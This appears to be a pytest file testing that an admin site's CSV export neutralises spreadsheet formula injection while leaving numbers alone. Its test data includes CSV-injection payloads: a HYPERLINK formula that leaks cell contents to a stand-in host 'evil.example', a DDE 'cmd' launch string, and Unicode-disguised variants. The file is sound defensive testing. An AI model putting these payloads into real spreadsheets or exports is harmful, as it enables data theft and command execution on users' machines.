"""CSV injection: text a spreadsheet would run as a formula is neutralised; numbers are left alone."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from admin_site.export.spreadsheet_safety import neutralise_formula
from models import Role
from tests import factories


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
     "\t=1+1", "\r=1+1", "  =1+1", "\n=1+1", "\u00a0=1", "\uff1d1+1", "\uff0b1", "\uff20SUM(A1)", "\t", "\r"],
)  # fmt: skip
def test_formula_like_text_gets_an_apostrophe(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["", "Ann", "ann@example.com", "SO-0000042", "1+1", "a=b", "'=already", " plain"])
def test_other_text_is_unchanged(value):
    assert neutralise_formula(value) == value


def test_csv_export_neutralises_text_cells_but_not_numbers(client, login_as, db):
    login_as(Role.admin)
    factories.customer(db, first_name='=HYPERLINK("https://evil.example","x")', last_name="@SUM(1)",
                       email="-minus@example.com", phone="+44 20 7946 0000")  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(client.get("/admin/customer/export/csv").text)))
    assert len(rows) == 1
    cells = set(rows[0].values())
    assert "'-minus@example.com" in cells and "'+44 20 7946 0000" in cells
    assert not any(cell[:1] in "=+-@" for cell in cells if cell), cells

    factories.product(db, name="=cmd", price=Decimal("5.00"), cost=Decimal("8.00"))  # margin −3.00
    rows = list(csv.reader(io.StringIO(client.get("/admin/product/export/csv").text)))
    assert "'=cmd" in rows[1] and "-3.00" in rows[1]  # a negative number stays a number
